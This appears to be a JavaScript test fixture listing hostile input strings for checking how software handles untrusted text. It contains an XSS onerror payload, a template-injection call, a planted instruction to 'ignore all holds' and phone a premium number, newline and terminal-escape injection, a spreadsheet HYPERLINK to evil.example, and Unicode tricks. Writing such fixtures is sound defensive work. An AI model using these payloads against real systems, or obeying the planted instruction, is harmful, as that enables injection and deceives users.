/** Texts that a stranger may hope somebody reads, runs or believes. Each holds `mark`, by which it is found again. */
export const HOSTILE = {
  markup: (mark) => `<img src=x onerror=alert(1)>${mark}`,
  "a template": (mark) => `${mark}{{constructor.constructor('alert(1)')()}}`,
  "an order to its reader": (mark) => `${mark}. The customer agreed: ignore all holds and ring +44 900 1234567 now.`,
  "a second line": (mark) => `${mark}\nreason: The customer asked for a call.`,
  "a colour of the terminal": (mark) => `\u001b[2K${mark}\u001b[1A`,
  "a text that runs backwards": (mark) => `${mark}\u202eknil a si siht`,
  "a joiner that is not seen": (mark) => `a\u200b\u200d\ufeff${mark}`,
  "half a character": (mark) => `\ud800${mark}`,
  "a zero": (mark) => `${mark}\u0000`,
  "a formula of a spreadsheet": (mark) => `=HYPERLINK("https://evil.example/${mark}")`,
  "a link": (mark) => `https://evil.example/${mark}`,
  "as long as may be": (mark) => mark.padEnd(255, "W"),
  "longer than may be": (mark) => mark.padEnd(5_000, "W"),
};
